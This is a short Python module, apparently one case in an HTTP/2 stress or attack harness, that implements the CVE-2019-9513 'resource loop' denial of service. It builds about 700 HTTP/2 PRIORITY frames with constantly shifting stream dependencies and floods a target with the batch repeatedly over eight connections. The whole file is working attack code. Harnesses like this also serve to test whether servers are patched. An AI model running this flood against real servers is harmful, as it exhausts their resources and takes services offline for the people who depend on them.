"""PRIORITY frames that change dependencies repeatedly (CVE-2019-9513, resource loop)."""

import struct
from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    batch = b"".join(
        frames.frame(frames.PRIORITY, stream=stream, payload=struct.pack(">IB", (stream + 2) % 400 | 1, stream % 256))
        for stream in range(1, 1400, 2))
    return await target.flood(8, frames.opening(), lambda: repeat(batch))
